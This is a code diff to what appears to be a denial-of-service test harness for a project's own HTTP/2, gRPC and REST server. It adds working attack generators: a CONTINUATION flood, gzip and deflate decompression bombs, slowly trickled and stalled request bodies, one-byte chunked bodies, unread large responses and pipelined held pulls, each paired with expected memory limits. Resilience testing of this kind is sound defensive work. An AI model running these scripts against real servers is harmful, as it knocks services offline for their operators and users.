@@ -2,10 +2,12 @@
 
 from __future__ import annotations
 
+import gzip
 import itertools
 import math
 import os
 import struct
+import zlib
 from collections.abc import Callable, Iterator, Mapping
 from typing import TypeAlias
 
@@ -17,6 +19,7 @@ from abusing.wire import (
     INITIAL_WINDOW_SIZE,
     LARGEST_FRAME,
     LARGEST_WINDOW,
+    PREFACE,
     Kind,
     Target,
     block,
@@ -50,7 +53,7 @@ class Attack:
     """Seconds for which one that has sent everything is kept open."""
     reads: bool = True
     text: bool = False
-    """Whether this is HTTP/1.1, or nothing at all, rather than HTTP/2."""
+    """Whether this is HTTP/1.1, or nothing at all; else it is HTTP/2, and not for REST."""
     handshake: bool = True
     """Whether a TLS handshake is completed first."""
     settings: Mapping[int, int] = attrs.field(factory=dict)
@@ -61,6 +64,10 @@ class Attack:
     large_answers: bool = False
     rest: bool | None = None
     """Whether it is for REST only, or for gRPC only."""
+
+    def is_for(self, *, rest: bool) -> bool:
+        """Say whether a server over REST, or over gRPC, can be attacked like this."""
+        return self.rest in (None, rest) and (self.text or not rest)
 
 
 def _streams() -> Iterator[int]:
@@ -92,6 +99,29 @@ def endless_headers(target: Target) -> Iterator[Batch]:
     more = frame(Kind.CONTINUATION, 0, 1, block([(b"x", bytes(1000))]))
     while True:
         yield more * 50, 50
+
+
+def continued_headers(target: Target) -> Iterator[Batch]:
+    """The same with as many fields in a frame as are let through; each grows tenfold."""
+    yield frame(Kind.HEADERS, END_STREAM, 1, block(target.fields("Ping"))), 1
+    more = frame(Kind.CONTINUATION, 0, 1, b"\0\x01x\x01y" * 430)
+    while True:
+        yield more * 20, 20
+
+
+def compressed_bodies(target: Target) -> Iterator[Batch]:
+    """A body of 64 KB that unpacks to a thousand times as much, by each of gRPC's two methods."""
+    zeros = bytes(55 * 2**20)
+    bodies = {b"gzip": gzip.compress(zeros), b"deflate": zlib.compress(zeros)}
+    for number, (name, body) in zip(_streams(), bodies.items(), strict=False):
+        fields = block([*target.fields("PushTaskRes"), (b"grpc-encoding", name)])
+        message = struct.pack("!BI", 1, len(body)) + body
+        pieces = [
+            frame(Kind.DATA, 0, number, message[start : start + LARGEST_FRAME])
+            for start in range(0, len(message), LARGEST_FRAME)
+        ]
+        head = frame(Kind.HEADERS, END_HEADERS, number, fields)
+        yield head + b"".join(pieces) + frame(Kind.DATA, END_STREAM, number, b""), 2 + len(pieces)
 
 
 def compressed_headers(target: Target) -> Iterator[Batch]:
@@ -236,12 +266,11 @@ def websocket_upgrade(_: Target) -> Iterator[Batch]:
     yield head + b"x", 1
 
 
-def data_after_answer(target: Target) -> Iterator[Batch]:
+def body_after_answer(target: Target) -> Iterator[Batch]:
     """A body that goes on after its early answer."""
-    fields = [*target.fields("Ping"), (b"content-length", b"1000000000")]
-    yield frame(Kind.HEADERS, END_HEADERS, 1, block(fields)), 1
+    yield target.post("ping", 10**9), 1
     for _ in range(50):
-        yield frame(Kind.DATA, 0, 1, bytes(100)), 1
+        yield bytes(100), 1
 
 
 def connect_without_path(_: Target) -> Iterator[Batch]:
@@ -259,6 +288,44 @@ def upgrade_to_http2(_: Target) -> Iterator[Batch]:
     )
 
 
+def prior_knowledge(_: Target) -> Iterator[Batch]:
+    """HTTP/2 without having asked for it."""
+    yield PREFACE + settings({}) + frame(Kind.PING, 0, 0, b"pingping") * 50, 51
+
+
+def trickled_bodies(target: Target) -> Iterator[Batch]:
+    """Pushes of 512 MiB that have begun, and go on by 4 KB at a time."""
+    yield target.post("push-task-res", 512 * 2**20), 1
+    while True:
+        yield bytes(4096), 1
+
+
+def stalled_bodies(target: Target) -> Iterator[Batch]:
+    """Pushes of 512 MiB of which 40 MB come at once, and then no more."""
+    yield target.post("push-task-res", 512 * 2**20), 1
+    for _ in range(40):
+        yield bytes(MEGABYTE), 1
+
+
+def chunks_of_one_byte(target: Target) -> Iterator[Batch]:
+    """A body whose every byte is a chunk."""
+    yield target.post("push-task-res", None), 1
+    while True:
+        yield b"1\r\nx\r\n" * 200, 200
+
+
+def unread_answers(target: Target) -> Iterator[Batch]:
+    """A pull of a large answer that nobody reads."""
+    yield target.post("pull-task-ins", len(target.pull)) + target.pull, 1
+
+
+def pipelined_pulls(target: Target) -> Iterator[Batch]:
+    """Pulls that are held, one behind the other."""
+    one = target.post("pull-task-ins", len(target.idle_pull)) + target.idle_pull
+    while True:
+        yield one * 50, 50
+
+
 def http1_without_end(_: Target) -> Iterator[Batch]:
     """Header fields of HTTP/1.1 without end."""
     yield b"POST /api/v0/fleet/ping HTTP/1.1\r\nhost: x\r\n", 1
@@ -270,15 +337,23 @@ def http1_without_end(_: Target) -> Iterator[Batch]:
 # makes that less: 1,024 streams on each of 4 connections.
 _LARGE_HEADS = 4 * 1200 * MEGABYTE
 
+# A head that does not end is seen by nobody but gRPC, which keeps ten to twenty times as much:
+# nothing bounds it but the frames that are sent here.
+_ENDLESS_HEADS = 5000 * MEGABYTE
+
 _ZERO = {INITIAL_WINDOW_SIZE: 0}
 # grpc copies each answer; REST sends what the API made.
 _LARGE = ANSWER * ANSWERS + 100 * MEGABYTE
 _LARGE_GRPC = 2 * ANSWER * ANSWERS + 100 * MEGABYTE
 
+# What requests may have together.
+_BODIES = 2**31 + 100 * MEGABYTE
+
 ATTACKS = (
-    Attack(name="none", script=nothing, connections=0),
+    Attack(name="none", script=nothing, connections=0, text=True),
     Attack(name="rapid reset", script=rapid_reset),
     Attack(name="endless headers", script=endless_headers, memory_grpc=250 * MEGABYTE),
+    Attack(name="CONTINUATION flood", script=continued_headers, memory_grpc=_ENDLESS_HEADS),
     Attack(name="HPACK bomb", script=compressed_headers, memory_grpc=_LARGE_HEADS),
     Attack(name="header field of 1 MB", script=large_header, memory_grpc=_LARGE_HEADS),
     Attack(name="SETTINGS flood", script=settings_flood),
@@ -310,6 +385,13 @@ ATTACKS = (
         script=half_requests,
         settings={INITIAL_WINDOW_SIZE: LARGEST_WINDOW},
     ),
+    Attack(
+        name="gzip and deflate bombs",
+        script=compressed_bodies,
+        connections=24,
+        rest_after=1,
+        rest=False,
+    ),
     Attack(name="streams with a held pull", script=held_pulls),
     Attack(name="connections without a word", script=silence, connections=500, text=True),
     Attack(
@@ -327,7 +409,41 @@ ATTACKS = (
     Attack(
         name="upgrade to HTTP/2", script=upgrade_to_http2, rest_after=0.05, text=True, rest=True
     ),
-    Attack(name="DATA after the answer", script=data_after_answer, rest_after=0.05, rest=True),
+    Attack(
+        name="HTTP/2, unasked",
+        script=prior_knowledge,
+        rest_after=0.05,
+        text=True,
+        rest=True,
+    ),
+    Attack(
+        name="body after its answer",
+        script=body_after_answer,
+        rest_after=0.05,
+        text=True,
+        rest=True,
+    ),
     Attack(name="CONNECT without a path", script=connect_without_path, rest_after=0.05),
     Attack(name="HTTP/1.1 head without end", script=http1_without_end, text=True, rest=True),
+    Attack(name="4 bodies in small pieces", script=trickled_bodies, text=True, rest=True),
+    Attack(
+        name="100 bodies that stall",
+        script=stalled_bodies,
+        connections=100,
+        text=True,
+        rest=True,
+        memory=_BODIES,
+    ),
+    Attack(name="chunks of one byte", script=chunks_of_one_byte, text=True, rest=True),
+    Attack(
+        name=f"{ANSWERS} answers of 64 MB that nobody reads",
+        script=unread_answers,
+        connections=ANSWERS,
+        reads=False,
+        text=True,
+        large_answers=True,
+        rest=True,
+        memory=_LARGE,
+    ),
+    Attack(name="pulls behind a held pull", script=pipelined_pulls, text=True, rest=True),
 )
